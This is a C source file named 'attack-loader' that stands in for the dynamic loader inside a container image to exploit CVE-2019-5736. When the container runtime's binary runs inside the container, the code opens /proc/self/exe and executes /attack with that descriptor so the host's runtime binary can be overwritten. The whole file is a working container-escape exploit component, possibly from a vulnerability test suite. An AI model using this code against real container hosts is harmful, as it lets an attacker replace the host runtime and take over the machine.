/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack-loader: what an image has in place of the dynamic loader, /lib64/ld-linux-x86-64.so.2.
 *
 * The kernel runs it when the runtime's own program is executed inside the container, through a
 * link or a script whose interpreter is /proc/self/exe (CVE-2019-5736). It takes a descriptor of
 * that program and becomes /attack, which overwrites the file as soon as nobody runs it. No C
 * library: what it would find in the auxiliary vector describes the runtime's program.
 */
#include <fcntl.h>
#include <stddef.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c)
{
	long result;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return result;
}

__attribute__((used, noreturn, force_align_arg_pointer)) void _start(void);

void _start(void)
{
	char program[] = "/attack", step[] = "reopen=0,3000", *environment = NULL;
	char *arguments[] = {program, step, NULL};
	const long fd = call(SYS_open, (long)"/proc/self/exe", O_RDONLY, 0);

	step[7] = (char)('0' + fd);
	if (fd >= 0 && fd <= 9)
		call(SYS_execve, (long)program, (long)arguments, (long)&environment);
	call(SYS_exit_group, 1, 0, 0);
	__builtin_unreachable();
}
